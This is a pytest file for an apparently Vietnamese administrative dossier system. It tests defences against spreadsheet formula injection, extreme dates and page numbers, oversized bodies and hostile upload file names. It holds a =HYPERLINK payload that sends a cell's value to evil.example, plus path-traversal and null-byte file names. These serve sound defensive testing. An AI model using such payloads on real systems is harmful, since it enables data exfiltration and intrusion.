"""Issue #12, defects 3, 5 and 11: formula injection in exports, 500s on edge input,
unbounded reasons and notes, bare HTML 400s."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tinhso.catalog.exchange import excel_format
from tinhso.catalog.exchange.document import export_document
from tinhso.core.errors import ValidationFailed
from tinhso.dossiers import lifecycle
from tinhso.dossiers.inputs import ResultInput
from tinhso.dossiers.models import (
    Dossier,
    DossierComponent,
    DossierEvent,
    Payment,
    Status,
    SupplementRequest,
)
from tinhso.dossiers.texts import NOTE_MAX, REASON_MAX, RESULT_NAME_MAX, RESULT_NUMBER_MAX
from tinhso.metrics.exports import workbook
from tinhso.petitions import services as petitions
from tinhso.petitions.models import Petition
from tinhso.petitions.services import PetitionInput

FORMULA = '=HYPERLINK("http://evil.example/?x="&E2,"Bấm xem")'
RISKY = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


def _assert_text_only(data: bytes, expected: list[str]):
    assert not re.search(r"<f[ >]", _sheet_xml(data))  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    cells = {c.value: c for ws in book.worksheets for r in ws.iter_rows() for c in r}
    for text in expected:
        assert cells[text].data_type == "s", text


# --- 3: formula injection in Excel exports.


def test_office_export_writes_an_applicant_formula_as_text(province, make_dossier, login):
    # Written directly: how the name got in (a desk intake, an import) does not matter here.
    Dossier.objects.filter(pk=make_dossier().pk).update(applicant_name=FORMULA)
    response = login(province.officer).get("/office/dossiers/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    _assert_text_only(data, [FORMULA])


def test_dashboard_tables_write_text_as_text():
    data = workbook("Bảng", ["Tên", "Số"], [[text, 1] for text in RISKY], notes=["=note"])
    # (XML reads a carriage return back as a line feed: that cell is checked by the XML.)
    _assert_text_only(data, [*(t for t in RISKY if "\r" not in t), "=note"])


def test_catalogue_workbook_writes_formulas_as_text_and_reads_them_back(province):
    document = export_document()
    document["procedures"][0]["name"] = FORMULA
    document["sectors"][0]["name"] = "-Hộ tịch"
    data = excel_format.dump(document)
    _assert_text_only(data, [FORMULA, "-Hộ tịch"])
    raw = excel_format.read(data)
    assert not raw.problems
    assert raw.procedures[0].row.data["name"] == FORMULA
    assert raw.sectors[0].data["name"] == "-Hộ tịch"


# --- 5: edge input answers a clear 400, never a 500.

API_LIST = "/api/v1/dossiers/"
BAD_DAYS = [{"received_to": "9999-12-31"}, {"received_from": "0001-01-01"},
            {"received_from": "0001-01-01", "received_to": "9999-12-31"}]


def _api_error(response, status=400) -> dict:
    assert response.status_code == status, response.content[:300]
    body = response.json()
    assert body["code"] and body["message"]
    return body


@pytest.mark.parametrize("params", BAD_DAYS)
def test_extreme_days_on_the_api_list_are_a_400(province, make_dossier, login, params):
    make_dossier()
    body = _api_error(login(province.officer).get(API_LIST, params))
    assert set(body["details"]) == set(params)


@pytest.mark.parametrize("params", BAD_DAYS)
def test_extreme_days_on_the_office_list_are_a_form_error(province, make_dossier, login,
                                                          params):
    make_dossier()
    client = login(province.officer)
    page = client.get("/office/dossiers/", params)
    assert page.status_code == 200
    assert "Ngày phải trong khoảng" in page.content.decode()
    export = client.get("/office/dossiers/export.xlsx", params)
    assert export.status_code == 400
    assert "Ngày phải trong khoảng" in export.content.decode()


@pytest.mark.parametrize("period", ["0001-01", "0001", "0001-Q1", "9999", "9999-12",
                                    "0001-01-01..0001-01-31", "9999-12-01..9999-12-31"])
def test_extreme_periods_on_the_dashboard_and_the_metrics_api_are_a_400(province, login,
                                                                        period):
    client = login(province.supervisor)
    page = client.get("/dashboard/", {"period": period})
    assert page.status_code == 400 and "Kỳ không hợp lệ" in page.content.decode()
    first, _sep, last = period.partition("..")
    if last:
        assert client.get("/dashboard/", {"from": first, "to": last}).status_code == 400
    for table in ("department", "dossiers"):
        response = client.get(f"/dashboard/export/{table}.xlsx",
                              {"period": period, "component": "2.1"})
        assert response.status_code == 400
    body = _api_error(client.get("/api/v1/metrics/dossiers/",
                                 {"period": period, "component": "2.1"}))
    assert body["code"] == "invalid_period"


@pytest.mark.parametrize("page", ["9223372036854775808", "-1", "0", "abc", "1e309",
                                  "99999999999999999999999999"])
@pytest.mark.parametrize("url", [API_LIST, "/api/v1/dossiers/worklist/?bucket=overdue",
                                 "/api/v1/metrics/dossiers/?component=2.1",
                                 "/api/v1/units/", "/api/v1/agencies/",
                                 "/api/v1/procedures/"])
def test_absurd_page_numbers_on_api_lists_are_a_400(province, make_dossier, login, url, page):
    make_dossier()
    client = login(province.supervisor)
    sep = "&" if "?" in url else "?"
    body = _api_error(client.get(f"{url}{sep}page={page}"))
    assert body["code"] == "invalid_page"


def test_a_page_past_the_last_is_still_a_404(province, make_dossier, login):
    make_dossier()
    _api_error(login(province.supervisor).get(API_LIST, {"page": 5}), 404)


@pytest.mark.parametrize("url", ["/api/v1/dossiers/intake/", API_LIST,
                                 "/api/v1/dossiers/{code}/refuse/"])
def test_deeply_nested_json_is_a_400(province, make_dossier, login, url):
    url = url.format(code=make_dossier().code)
    response = login(province.officer).post(url, "[" * 100_000,
                                            content_type="application/json")
    assert _api_error(response)["code"] == "parse_error"


# --- 11: reasons and notes have a length; bodies too big are answered, not bare HTML.

HUGE = "Ly do rat dai. " * 160_000  # 2.4 MB, as in the probe (under the 2.5 MB body limit)
LONG = "x" * (REASON_MAX + 1)


def _no_trace(dossier, status=Status.SUBMITTED):
    dossier.refresh_from_db()
    assert dossier.status == status
    assert not DossierEvent.objects.filter(dossier=dossier, note__startswith="x" * 100).exists()
    assert not DossierEvent.objects.filter(dossier=dossier, note__startswith="Ly do rat dai"
                                           ).exists()


@pytest.mark.parametrize("text", [HUGE, LONG])
def test_the_lifecycle_refuses_a_reason_over_its_limit(province, make_dossier, text):
    p = province
    dossier = make_dossier()
    for call in (lambda: lifecycle.refuse(p.officer, dossier, reason=text),
                 lambda: lifecycle.withdraw(p.citizen, dossier, reason=text),
                 lambda: lifecycle.receive(p.officer, dossier, note=text)):
        with pytest.raises(ValidationFailed) as err:
            call()
        assert err.value.code == "text_too_long"
    _no_trace(dossier)
    processing = make_dossier(Status.PROCESSING)
    for call in (lambda: lifecycle.stop(p.leader, processing, reason=text),
                 lambda: lifecycle.request_supplement(p.specialist, processing, reasons=text),
                 lambda: lifecycle.forward(p.specialist, processing, note=text),
                 lambda: lifecycle.finish(p.leader, processing, note=text,
                                          results=[ResultInput("Trích lục", "1")]),
                 lambda: lifecycle.finish(p.leader, processing,
                                          results=[ResultInput("n" * (RESULT_NAME_MAX + 1), "1")]),
                 lambda: lifecycle.finish(p.leader, processing, results=[
                     ResultInput("Trích lục", "n" * (RESULT_NUMBER_MAX + 1))])):
        with pytest.raises(ValidationFailed) as err:
            call()
        assert err.value.code == "text_too_long"
    _no_trace(processing, Status.PROCESSING)
    assert not SupplementRequest.objects.filter(dossier=processing).exists()
    assert lifecycle.refuse(p.officer, dossier, reason="y" * REASON_MAX).status == Status.REFUSED


def test_a_payment_reference_and_a_petition_have_a_limit(province, make_dossier):
    owing = make_dossier(Status.PAYMENT_REQUESTED)
    with pytest.raises(ValidationFailed, match="Mã giao dịch"):
        lifecycle.record_payment(province.officer, owing, method=Payment.Method.DESK,
                                 amount=owing.fees_owed - owing.fees_paid, reference="R" * 101)
    assert not Payment.objects.filter(dossier=owing).exists()
    data = PetitionInput(kind=Petition.Kind.FEEDBACK, title="Bãi xe", content="z" * 5001,
                         name="Trần Văn Dân", phone="0912345678")
    with pytest.raises(ValidationFailed) as err:
        petitions.submit(province.citizen, data)
    assert err.value.code == "text_too_long" and not Petition.objects.exists()


def test_the_api_declares_and_enforces_the_limits(province, make_dossier, login):
    client = login(province.officer)
    dossier = make_dossier()
    url = f"/api/v1/dossiers/{dossier.code}/refuse/"
    for text in (LONG, HUGE):
        body = _api_error(client.post(url, {"reason": text}, content_type="application/json"))
        assert set(body["details"]) == {"reason"}
    _no_trace(dossier)
    schema = client.get("/api/schema/", {"format": "json"}).json()["components"]["schemas"]
    assert schema["ReasonIn"]["properties"]["reason"]["maxLength"] == REASON_MAX
    assert schema["NoteIn"]["properties"]["note"]["maxLength"] == NOTE_MAX
    assert schema["RequestSupplementIn"]["properties"]["reasons"]["maxLength"] == REASON_MAX


def test_the_office_forms_declare_and_enforce_the_limits(province, make_dossier, login):
    client = login(province.officer)
    dossier = make_dossier()
    url = f"/office/dossiers/{dossier.code}/actions/refuse/"
    form = client.get(url).content.decode()
    assert f'maxlength="{REASON_MAX}"' in form
    response = client.post(url, {"reason": LONG, "expected_version": dossier.lock_version})
    assert response.status_code == 400
    assert "2000" in response.content.decode()  # the form says how long it may be
    _no_trace(dossier)


def test_a_body_over_the_limit_is_answered_in_json_on_the_api(province, make_dossier, login,
                                                             settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    client = login(province.officer)
    dossier = make_dossier()
    url = f"/api/v1/dossiers/{dossier.code}/refuse/"
    for kind in ("json", "form", "multipart"):
        if kind == "json":
            response = client.post(url, {"reason": "x" * 20_000},
                                   content_type="application/json")
        elif kind == "form":
            response = client.post(url, f"reason={'x' * 20_000}",
                                   content_type="application/x-www-form-urlencoded")
        else:
            response = client.post(url, {"reason": "x" * 20_000})
        body = _api_error(response, 413)
        assert body["code"] == "request_too_large" and "quá lớn" in body["message"]
    _no_trace(dossier)


def test_a_body_over_the_limit_is_a_message_on_the_page(province, make_dossier, login,
                                                        settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    client = login(province.officer)
    dossier = make_dossier()
    url = f"/office/dossiers/{dossier.code}/actions/refuse/"
    data = {"reason": "x" * 20_000, "expected_version": dossier.lock_version}
    # Posted from the form: back to the form, the message above it.
    response = client.post(url, data, HTTP_REFERER=f"http://testserver{url}")
    assert response.status_code == 302 and response["Location"] == f"http://testserver{url}"
    html = client.get(url).content.decode()
    assert "quá lớn" in html and 'name="reason"' in html
    # From nowhere (or from another site): a page in plain words.
    for referer in ({}, {"HTTP_REFERER": "https://evil.example/"}):
        response = client.post(url, data, **referer)
        assert response.status_code == 413
        html = response.content.decode()
        assert 'id="bad-request"' in html and "quá lớn" in html
    _no_trace(dossier)


# --- 11: absurd file names get a message, and are stored under a safe name.

BOUNDARY = "tinhso-edge"


def _multipart(fields: dict, filename: str) -> bytes:
    """A form with one PDF under `filename`, written by hand: a client would clean the name."""
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
             for k, v in fields.items()]
    head = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="paper_file"; '
            f'filename="{filename}"\r\nContent-Type: application/pdf\r\n\r\n')
    return ("".join(parts) + head).encode() + b"%PDF-1.4 x\r\n" + f"--{BOUNDARY}--\r\n".encode()


def _bring_paper(client, dossier, filename):
    body = _multipart({"expected_version": dossier.lock_version, "paper_name": "Ảnh chân dung"},
                      filename)
    return client.generic("POST", f"/office/dossiers/{dossier.code}/actions/supplement/", body,
                          content_type=f"multipart/form-data; boundary={BOUNDARY}")


def _stored(dossier) -> list[str]:
    papers = DossierComponent.objects.filter(dossier=dossier, name="Ảnh chân dung")
    return [c.file.name for c in papers if c.file]


@pytest.mark.parametrize("filename", ["../../etc/passwd.pdf", "a\x00b.pdf", "a\x01\x1f\x7fb.pdf",
                                      "C:\\Windows\\x.pdf", ".pdf", " .pdf", "&#0;.pdf",
                                      "Giấy tờ (bản sao).pdf", "ả" * 200 + ".pdf",
                                      "a" * 300 + ".pdf", "a/" * 200 + "b.pdf"])
def test_a_paper_is_stored_under_a_safe_name(province, make_dossier, login, filename):
    dossier = make_dossier(Status.SUPPLEMENT_REQUESTED)
    response = _bring_paper(login(province.officer), dossier, filename)
    assert response.status_code == 302
    [name] = _stored(dossier)
    assert re.fullmatch(r"dossiers/\d{4}/\d{2}/[a-z0-9][a-z0-9-]{0,79}(_[A-Za-z0-9]{7})?\.pdf",
                        name), name


def test_a_message_quotes_a_file_name_printable_and_short(province, make_dossier, login):
    dossier = make_dossier(Status.SUPPLEMENT_REQUESTED)
    response = _bring_paper(login(province.officer), dossier, "b" * 250 + "\x01.exe")
    assert response.status_code == 400
    assert "không đúng định dạng" in response.content.decode()
    assert "b" * 60 not in response.content.decode()
    assert not _stored(dossier)


def test_a_file_name_past_the_header_limit_is_answered_in_plain_words(province, make_dossier,
                                                                      login):
    client = login(province.officer)
    dossier = make_dossier(Status.SUPPLEMENT_REQUESTED)
    page = _bring_paper(client, dossier, "a" * 10_000 + ".pdf")
    assert page.status_code == 400 and 'id="bad-request"' in page.content.decode()
    body = _multipart({"reason": "Sai"}, "a" * 10_000 + ".pdf")
    api = client.generic("POST", f"/api/v1/dossiers/{dossier.code}/refuse/", body,
                         content_type=f"multipart/form-data; boundary={BOUNDARY}")
    assert _api_error(api)["code"] in {"bad_request", "parse_error"}
    assert not _stored(dossier)


def test_a_paper_over_the_upload_limit_is_a_message_in_the_form(province, make_dossier, login,
                                                                settings):
    settings.TINHSO_UPLOAD_MAX_MB = 0.000001  # one byte: the test paper is larger
    dossier = make_dossier(Status.SUPPLEMENT_REQUESTED)
    response = _bring_paper(login(province.officer), dossier, "anh.pdf")
    assert response.status_code == 400 and "quá lớn" in response.content.decode()
    assert not _stored(dossier)
